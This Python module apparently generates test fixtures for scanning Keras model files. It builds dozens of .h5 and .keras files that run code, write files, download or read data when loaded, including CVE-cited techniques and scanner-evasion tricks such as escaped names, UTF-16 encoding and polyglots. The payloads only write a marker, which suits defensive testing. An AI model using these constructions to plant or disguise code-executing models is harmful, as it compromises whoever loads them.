"""Keras files that run something, or read something, when they are loaded.

Each writes the marker that it is given, as the payload a stranger would bring; nothing else.
"""

import json
import zipfile

import tensorflow as tf
from hostile_graphs import session_model
from keras_files import (
    dense,
    functional,
    named_function,
    new_lambda,
    old_lambda,
    payload,
    sequential,
    sequential3,
    with_module,
    write_h5,
    write_keras,
)


def lambda_h5(folder, marker):
    """CVE-2024-3660, and CVE-2025-9905 in `.h5`."""
    return write_h5(folder / "m.h5", sequential(old_lambda(marker)))


def escaped_lambda(folder, marker):
    config = sequential(old_lambda(marker))
    text = json.dumps(config).replace('"Lambda"', '"\\u004cambda"')
    return write_h5(folder / "m.h5", config, as_bytes=True, text=text)


def polyglot(folder, marker):
    path = lambda_h5(folder, marker)
    benign = write_keras(folder / "benign.keras", sequential3(), version="3.15.1")
    path.write_bytes(path.read_bytes() + benign.read_bytes())
    benign.unlink()
    return path


def hdf5_named_keras(folder, marker):
    config = sequential(old_lambda(marker))
    text = json.dumps(config).replace('"Lambda"', '"\\u004cambda"')
    return write_h5(folder / "m.keras", config, as_bytes=True, text=text)


def escaped_lambda_keras(folder, marker):
    text = json.dumps(sequential3(new_lambda(marker))).replace('"Lambda"', '"\\u004cambda"')
    return write_keras(folder / "m.keras", text.encode(), version="3.15.1")


def utf16_lambda_keras(folder, marker):
    text = json.dumps(sequential3(new_lambda(marker)))
    return write_keras(folder / "m.keras", text.encode("utf-16"), version="3.15.1")


def doubled_config(folder, marker):
    path = write_keras(folder / "m.keras", sequential3(), version="3.15.1")
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr("config.json", json.dumps(sequential3(new_lambda(marker))))
    return path


def doubled_key(folder, marker):
    config = json.dumps(sequential(old_lambda(marker)))
    text = config.replace('"Lambda"', '"Dense", "class_name": "\\u004cambda"')
    return write_h5(folder / "m.h5", sequential(old_lambda(marker)), as_bytes=True, text=text)


def lambda_in_time_distributed(folder, marker):
    inner = old_lambda(marker, "inner")
    inner["class_name"] = "Lambda"
    config = {"name": "f", "layer": inner}
    text = json.dumps(sequential({"class_name": "TimeDistributed", "config": config}))
    shape = text.replace("[null, 4]", "[null, 3, 4]").replace('"Lambda"', '"\\u004cambda"')
    return write_h5(folder / "m.h5", json.loads(shape), as_bytes=True, text=shape)


def lambda_in_a_nested_model(folder, marker):
    inner = sequential(old_lambda(marker))
    inner["config"]["name"] = "inner"
    config = sequential(inner)
    text = json.dumps(config).replace('"Lambda"', '"\\u004cambda"')
    return write_h5(folder / "m.h5", config, as_bytes=True, text=text)


def _wrapped_cell(kind, key, marker):
    cell = {"class_name": "SimpleRNNCell", "config": {"name": "cell", "units": 4}}
    wrapper = {
        "name": "w",
        "cell": cell,
        key: payload(marker),
        f"{key}_type": "lambda",
        f"{key}_module": "__main__",
    }
    return {
        "class_name": "RNN",
        "config": {"name": "f", "cell": {"class_name": kind, "config": wrapper}},
    }


def residual_wrapper(folder, marker):
    config = sequential(_wrapped_cell("ResidualWrapper", "residual_fn", marker))
    text = json.dumps(config).replace("[null, 4]", "[null, 3, 4]")
    return write_h5(folder / "m.h5", json.loads(text))


def dropout_wrapper(folder, marker):
    layer = _wrapped_cell("DropoutWrapper", "dropout_fn", marker)
    layer["config"]["cell"]["config"].update(
        input_keep_prob=1.0, output_keep_prob=1.0, state_keep_prob=0.5, variational_recurrent=False
    )
    layer["config"]["cell"]["config"]["cell"]["class_name"] = "SimpleRNNCell"
    text = json.dumps(sequential(layer)).replace("[null, 4]", "[null, 3, 4]")
    return write_h5(folder / "m.h5", json.loads(text))


def write_file_h5(folder, marker):
    node = ["_CONSTANT_VALUE", -1, str(marker), {"contents": "ran"}]
    return write_h5(folder / "m.h5", functional("TFOpLambda", {"function": "io.write_file"}, node))


def write_file_v1(folder, marker):
    node = ["_CONSTANT_VALUE", -1, str(marker), {"contents": "ran"}]
    config = functional("TFOpLambda", {"function": "compat.v1.io.write_file"}, node)
    return write_h5(folder / "m.h5", config)


def write_file_keras(folder, marker):
    node = ["_CONSTANT_VALUE", -1, str(marker), {"contents": "ran"}]
    new = {"module": "tf_keras.src.layers.core.tf_op_layer", "registered_name": "TFOpLambda"}
    config = functional("TFOpLambda", {"function": "io.write_file"}, node, **new)
    config["config"]["layers"][0] |= {"module": "keras.layers", "registered_name": None}
    config |= {"module": "keras.src.engine.functional", "registered_name": "Functional"}
    return write_keras(folder / "m.keras", config)


def write_file_while_slicing(folder, marker):
    node = ["_CONSTANT_VALUE", -1, str(marker), {"contents": "ran"}]
    config = functional("SlicingOpLambda", {"function": "io.write_file"}, node)
    return write_h5(folder / "m.h5", config)


def wrapped_op(folder, marker):
    """As TensorFlow 2.0 to 2.3 kept ops; it reads files when the model is called."""
    node = tf.compat.v1.NodeDef(name="f", op="ReadFile", input=["x"])
    layer = {"node_def": node.SerializeToString().decode(), "constants": {}, "dtype": "string"}
    config = functional("TensorFlowOpLayer", layer, ["x", 0, 0, {}])
    config["config"]["layers"][0]["config"]["dtype"] = "string"
    return write_h5(folder / "m.h5", config)


def class_method(folder, marker):
    saved = folder / "inner"
    session_model(saved, lambda: tf.io.write_file(str(marker), "ran"))
    node = ["_CONSTANT_VALUE", -1, [str(saved)], {"kwargs": {}}]
    layer = {"cls_symbol": "lite.TFLiteConverter", "method_name": "from_saved_model"}
    return write_h5(folder / "m.h5", functional("ClassMethod", layer, node))


def _evil_module(folder, marker):
    (folder / "evil_by_name.py").write_text(
        f"open({str(marker)!r}, 'w').write('ran')\ndef f(x): return x\nclass Dense: pass\n"
    )


def function_of_a_module(folder, marker):
    _evil_module(folder, marker)
    return write_keras(folder / "m.keras", named_function("evil_by_name", "f"))


def class_of_a_module(folder, marker):
    """CVE-2025-1550."""
    _evil_module(folder, marker)
    config = {"module": "evil_by_name", "class_name": "Dense", "config": {}}
    return write_keras(folder / "m.keras", {"registered_name": None, **config})


def initializer_of_a_module(folder, marker):
    _evil_module(folder, marker)
    zeros = {"class_name": "Dense", "module": "evil_by_name", "config": {}, "registered_name": None}
    return write_h5(folder / "m.h5", sequential(dense(kernel_initializer=zeros)))


def type_spec_of_a_module(folder, marker):
    _evil_module(folder, marker)
    spec = {
        "class_name": "__typespec__",
        "spec_name": "TensorSpec",
        "module": "evil_by_name",
        "config": [],
        "registered_name": None,
    }
    return write_keras(folder / "m.keras", spec)


def name_in_the_registered_name(folder, marker):
    """tf_keras looks that name up as well; found, it is called."""
    model = {
        "class_name": "NoSuchName",
        "module": "keras.src.utils.generic_utils",
        "config": {},
        "registered_name": "func_load",
    }
    return write_keras(folder / "m.keras", model)


def module_of_a_registered_function(folder, marker):
    """tf_keras registers `Custom>Adam`; an `Adam` of another module is not that."""
    _evil_module(folder, marker)
    return write_keras(folder / "m.keras", named_function("evil_by_name", "Adam"))


def module_of_a_value(folder, marker):
    """What stands for a value in Keras 3, or in `.h5`, is any class to others."""
    _evil_module(folder, marker)
    value = {"class_name": "__slice__", "module": "evil_by_name", "config": {}}
    return write_keras(folder / "m.keras", {"registered_name": None, **value})


def module_of_a_shape(folder, marker):
    _evil_module(folder, marker)
    value = {"class_name": "TensorShape", "module": "evil_by_name", "config": {}}
    return write_keras(folder / "m.keras", {"registered_name": None, **value})


def op_under_a_registered_name(folder, marker):
    """Old files are read by the class, whatever else a name says that is registered."""
    node = ["_CONSTANT_VALUE", -1, str(marker), {"contents": "ran"}]
    layer = {"function": "io.write_file"}
    config = functional("TFOpLambda", layer, node, registered_name="QuantizeLayer")
    # Which makes tfmot's names known.
    config["about"] = {"class_name": "QuantizeLayer", "config": {}}
    return write_h5(folder / "m.h5", config)


def unsafe_switch(folder, marker):
    """CVE-2025-9906."""
    function = named_function("keras.config", "enable_unsafe_deserialization")
    switch = new_lambda(marker)
    switch["config"] |= {"function": function, "name": "switch"}
    config = sequential3(switch, new_lambda(marker))
    return write_keras(folder / "m.keras", config, version="3.15.1")


def downloads(folder, marker):
    """CVE-2025-8747."""
    function = named_function("keras.utils", "get_file")
    config = sequential3(with_module(dense(kernel_initializer=function)))
    return write_keras(folder / "m.keras", config, version="3.15.1")


def vocabulary_file(folder, marker):
    """CVE-2025-12058."""
    secret = folder / "secret.txt"
    secret.write_text("word\n")
    layer = {"class_name": "StringLookup", "config": {"name": "f", "vocabulary": str(secret)}}
    config = sequential(with_module(layer))
    shape = {"batch_input_shape": [None, 4], "dtype": "string", "name": "x"}
    first = {"module": "keras.layers", "class_name": "InputLayer", "config": shape}
    config["config"]["layers"][0] = {"registered_name": None, **first}
    whole = {"module": "keras", "registered_name": None, **config}
    return write_keras(folder / "m.keras", whole)


def vocabulary_file_h5(folder, marker):
    secret = folder / "secret.txt"
    secret.write_text("word\n")
    layer = {"class_name": "StringLookup", "config": {"name": "f", "vocabulary": str(secret)}}
    text = json.dumps(sequential(layer)).replace("float32", "string")
    return write_h5(folder / "m.h5", json.loads(text))


def saved_model_layer(folder, marker):
    """CVE-2026-1462."""
    saved = folder / "inner"
    session_model(saved, lambda: tf.io.write_file(str(marker), "ran"))
    layer = {
        "class_name": "TFSMLayer",
        "config": {"name": "f", "filepath": str(saved), "call_endpoint": "serve"},
    }
    config = sequential3(with_module(layer))
    return write_keras(folder / "m.keras", config, version="3.15.1")


def torch_module(folder, marker):
    layer = {"class_name": "TorchModuleWrapper", "config": {"name": "f", "module": "gASVAA=="}}
    config = sequential3(with_module(layer))
    return write_keras(folder / "m.keras", config, version="3.15.1")


def jax_layer(folder, marker):
    layer = {"class_name": "JaxLayer", "config": {"name": "f", "call_fn": new_lambda(marker)}}
    config = sequential3(with_module(layer))
    return write_keras(folder / "m.keras", config, version="3.15.1")


FILES = [
    lambda_h5,
    escaped_lambda,
    polyglot,
    hdf5_named_keras,
    escaped_lambda_keras,
    utf16_lambda_keras,
    doubled_config,
    doubled_key,
    lambda_in_time_distributed,
    lambda_in_a_nested_model,
    residual_wrapper,
    dropout_wrapper,
    write_file_h5,
    write_file_v1,
    write_file_keras,
    write_file_while_slicing,
    wrapped_op,
    class_method,
    function_of_a_module,
    class_of_a_module,
    initializer_of_a_module,
    type_spec_of_a_module,
    name_in_the_registered_name,
    module_of_a_registered_function,
    module_of_a_value,
    module_of_a_shape,
    op_under_a_registered_name,
    unsafe_switch,
    downloads,
    vocabulary_file,
    vocabulary_file_h5,
    saved_model_layer,
    torch_module,
    jax_layer,
]
